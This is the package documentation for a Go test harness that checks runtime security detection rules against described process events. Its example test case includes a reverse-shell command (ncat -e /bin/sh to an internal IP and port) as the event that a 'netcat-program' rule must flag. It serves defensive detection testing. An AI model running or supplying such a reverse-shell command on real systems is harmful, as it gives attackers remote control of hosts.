// Package policytest runs the tests of policies: files that say which events
// happen and which rules match. It needs no kernel and no cluster.
//
//	policies: [../remote-shells.yaml]
//	cases:
//	  - name: netcat with a program
//	    events:
//	      - kind: Exec
//	        process: {exe: /usr/bin/ncat, name: ncat, args: [ncat, -e, /bin/sh, 10.0.0.9, "4444"]}
//	        container: c1
//	        pod: {namespace: shop, name: web-0}
//	    expect:
//	      - {rule: netcat-program, severity: High, message: ncat}
//	  - name: netcat as a port probe
//	    events:
//	      - kind: Exec
//	        process: {exe: /usr/bin/ncat, name: ncat, args: [ncat, -z, db, "5432"]}
//	    quiet: [netcat-program]
//
// Every match that is not expected is a failure, and so is a rule that is
// undecided, suppressed or fails where the case does not say so. A rule is
// covered when one case expects it and another one calls it quiet.
//
// Everything about a process that a case does not give is known and empty or
// zero; what is not known stands under missing. A process without a parent is
// a child of the host's init, unless parent is among the missing.
package policytest
